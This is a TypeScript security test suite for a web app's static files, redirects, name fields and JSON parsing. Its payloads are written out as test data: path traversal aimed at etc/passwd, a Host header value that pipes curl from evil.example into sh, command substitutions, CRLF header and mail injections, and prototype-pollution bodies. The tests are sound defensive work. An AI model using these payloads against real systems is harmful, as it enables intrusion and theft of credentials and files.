import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startApp, type TestApp } from '#testkit/app.ts';
import type { Client, GraphqlAnswer } from '#testkit/client.ts';
import { createAgentToken, createEnvironment, newHost } from '../contract/deployment-requests.fixture.ts';
import { make, newSite } from '../contract/monitoring-requests.fixture.ts';
import { sendRaw, statusesIn } from './raw.ts';

let app: TestApp;
let owner: Client;
beforeAll(async () => {
  app = await startApp({ work: [], env: { STEWARD_RATE_LIMIT_WRITES: '1000' } });
  owner = await app.signUp();
});
afterAll(() => app?.[Symbol.asyncDispose]());

const request = (path: string, headers = 'Host: 127.0.0.1'): string =>
  `GET ${path} HTTP/1.1\r\n${headers}\r\nConnection: close\r\n\r\n`;

describe('static files', { tags: ['strict'] }, () => {
  const ups = ['..', '%2e%2e', '%2E.', '..%00', '%252e%252e', '..;', '%c0%ae%c0%ae', '...'];
  const slashes = ['/', '%2f', '\\', '%5c', '//'];
  const mounts = [
    '/console/',
    '/auth/',
    '/deployment/agent/',
    '/monitoring/explorer/',
    '/deployment/explorer/',
    '/vat/explorer/',
    '/project/explorer/',
    '/',
  ];
  const wanted = ['package.json', 'src/app/config/config.ts', 'etc/passwd', 'authenticate.ts'];

  it.each(mounts)('cannot be left by path traversal from %s', async (mount) => {
    const secrets = [await readFile('package.json', 'utf8'), '#platform/', 'root:x:', 'export '];
    const climbs = ups.flatMap((up) =>
      slashes.flatMap((slash) =>
        [1, 2, 4, 8].flatMap((times) => wanted.map((file) => mount + (up + slash).repeat(times) + file)),
      ),
    );
    const texts: Promise<void>[] = [];
    // Pipelined, because 640 connections per mount would dominate the time.
    for (let at = 0; at < climbs.length; at += 64) {
      const batch = climbs.slice(at, at + 64);
      const text = batch.map((path, index) =>
        index < batch.length - 1 ? request(path).replace('Connection: close\r\n', '') : request(path),
      );
      texts.push(
        sendRaw(app.url, text.join(''), 5_000).then((answer) => {
          for (const secret of secrets) expect(answer.text).not.toContain(secret);
          const statuses = statusesIn(answer);
          expect(statuses.length).toBeGreaterThan(0);
          for (const status of statuses) expect([200, 400, 403, 404]).toContain(status);
        }),
      );
    }
    await Promise.all(texts);
  });

  it('of the sign-in page are served, but not the tests next to them', async () => {
    expect((await app.stranger().get('/auth/next.js')).status).toBe(200);
    expect((await app.stranger().get('/auth/next.test.ts')).status).toBe(404);
  });

  it('for agents are limited to known names, in the path and in the query', async () => {
    for (const name of [
      '../../package.json',
      '/etc/passwd',
      'steward-agent.cjs',
      'steward-agent-linux-../x',
      'steward-agent.mjs\0',
      '.sha256',
      '__proto__',
      'constructor',
    ]) {
      const encoded = encodeURIComponent(name);
      for (const path of [
        encoded,
        `${encoded}.sha256`,
        `version.json?file=${encoded}`,
        `version.json?file=${encoded}&file=x`,
      ]) {
        const response = await app.stranger().get(`/deployment/agent/${path}`);
        expect([path, response.status]).toEqual([path, 404]);
      }
    }
  });

  it.each([
    'x";curl evil.example|sh;"',
    "x';id;'",
    '$(id)',
    '`id`',
    'x/$(id)',
    'x\\',
    'x y',
    'a@b',
    'x#',
    'x?y',
  ])('include no install script with an injected Host header: %s', async (host) => {
    const answer = await sendRaw(app.url, request('/deployment/agent/install.sh', `Host: ${host}`));
    expect(statusesIn(answer)).toEqual([400]);
    expect(answer.text).not.toContain('#!/bin/sh');
  });
});

describe('a redirect', { tags: ['strict'] }, () => {
  it.each([
    '/monitoring/graphql',
    '//evil.example/monitoring/graphql',
    '/\\evil.example/../monitoring/graphql',
    'http://evil.example/monitoring/graphql',
  ])('leads only to the sign-in page, for the request path %s', async (path) => {
    const answer = await sendRaw(app.url, request(path, 'Host: evil.example\r\nAccept: text/html'));
    const [, location = 'nowhere'] = /^location: (.*)\r$/im.exec(answer.text) ?? [];
    expect(location).toMatch(statusesIn(answer)[0] === 302 ? /^\/auth\?next=/ : /^nowhere$/);
  });

  it('contains no header injected by the client', async () => {
    const path = '/monitoring/graphql?x=%0d%0aSet-Cookie:%20steward_session=stolen';
    const answer = await sendRaw(app.url, request(path, 'Host: x\r\nAccept: text/html'));
    expect(statusesIn(answer)).toEqual([302]);
    expect(answer.text).not.toMatch(/^set-cookie:/im);
  });
});

describe('a name with a line break', { tags: ['strict'] }, () => {
  const broken = 'x\r\nBcc: evil@example.com\r\n\r\n<h1>';
  const makers: Record<string, () => Promise<GraphqlAnswer>> = {
    site: () => make(owner, 'createSite', { name: broken, url: 'https://x.example' }),
    page: async () =>
      make(owner, 'createSitePage', { siteId: (await newSite(owner)).id, name: broken, path: '/' }),
    environment: () => createEnvironment(owner, { name: broken }),
    'agent token': async () => createAgentToken(owner, (await newHost(owner)).id, broken),
    'access token': () =>
      owner.deployment(
        `mutation ($name: String!) {
          createPersonalAccessToken(input: { name: $name, expiry: NEVER }) { token errors { field } }
        }`,
        { name: broken },
      ),
    'mail address': () =>
      make(owner, 'updateNotificationSettings', {
        emailAddresses: ['a@example.com\r\nBcc: evil@example.com'],
      }),
    person: () =>
      owner.monitoring(
        'mutation ($name: String!) { createUser(input: { email: "a@example.com", name: $name }) { id } }',
        { name: broken },
      ),
  };

  it.each(Object.keys(makers))('is rejected, which prevents mail header injection: %s', async (what) => {
    const { data, errors } = await makers[what]!();
    const payload = Object.values(data ?? {})[0] as { errors?: { field: string }[] } | null | undefined;
    expect([errors?.[0]?.extensions.code, payload?.errors?.length]).toEqual(
      errors ? ['BAD_REQUEST', undefined] : [undefined, 1],
    );
  });
});

describe('keys with a meaning in JavaScript', { tags: ['strict'] }, () => {
  const poisons = [
    '{"__proto__":{"polluted":1}}',
    '{"constructor":{"prototype":{"polluted":1}}}',
    '{"__proto__":null}',
  ];
  const clean = (): void => {
    expect(({} as { polluted?: number }).polluted).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
  };

  it.each(poisons)('pollute no prototype, in a body: %s', async (poison) => {
    const { agent } = await newHost(owner);
    const poisoned = (body: object): string => `${poison.slice(0, -1)},${JSON.stringify(body).slice(1)}`;
    const answers = [
      ...(await Promise.all(
        ['sign-in', 'sign-up', 'password', 'reset/confirm'].map((verb) =>
          app.stranger().post(`/auth/${verb}`, poison),
        ),
      )),
      await owner.post('/monitoring/graphql', poisoned({ query: '{ me { id } }', variables: {} })),
      await owner.post('/monitoring/graphql', poisoned({ query: '{ me { id } }', extensions: { a: 1 } })),
      await owner.post(
        '/monitoring/graphql',
        `{"query":"query ($a: ID) { alerts(siteId: $a) { id } }","variables":${poison}}`,
      ),
      await owner.post(
        '/monitoring/graphql',
        `{"query":"mutation ($input: CreateSiteInput!) { createSite(input: $input) { id } }","variables":{"input":${poison}}}`,
      ),
    ];
    for (const { status } of answers) expect(status).toBeLessThan(500);
    for (const path of ['/register', '/poll', '/deployments/01890000-0000-7000-8000-000000000000/steps']) {
      const response = await fetch(`${agent.baseUrl}/agent/v1${path}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${agent.token}` },
        body: poisoned({ waitSeconds: 0, leaseEpoch: 1, steps: [JSON.parse(poison)] }),
      });
      expect(response.status).toBeLessThan(500);
    }
    clean();
  });

  it('are not accepted as operation, field or variable names', async () => {
    for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
      const codeFor = async (body: object): Promise<unknown> => {
        const { errors } = (await (await owner.post('/monitoring/graphql', body)).json()) as GraphqlAnswer;
        return errors?.[0]?.extensions.code;
      };
      expect(await codeFor({ query: 'query a { me { id } }', operationName: name })).toBe('BAD_REQUEST');
      expect(await codeFor({ query: `{ ${name} { id } }` })).toBe('BAD_REQUEST');
      // As aliases and variables, they are ordinary names or rejected, without an internal error.
      const query = `query ($${name}: Int = 1) { ${name}: checks(siteId: "x", limit: $${name}) { ${name}: id } }`;
      expect(['BAD_REQUEST', 'NOT_FOUND']).toContain(await codeFor({ query }));
      expect([undefined, 'BAD_REQUEST']).toContain(await codeFor({ query: `{ me { ${name}: id } }` }));
    }
    clean();
  });

  it('are not accepted in a query string', async () => {
    for (const query of [
      '__proto__[polluted]=1',
      'constructor.prototype.polluted=1',
      'search[__proto__]=1',
      'limit[]=1',
      'search=a&search=b',
    ])
      expect((await owner.get(`/vat/admin/log?${query}`)).status).toBeLessThan(500);
    clean();
  });
});
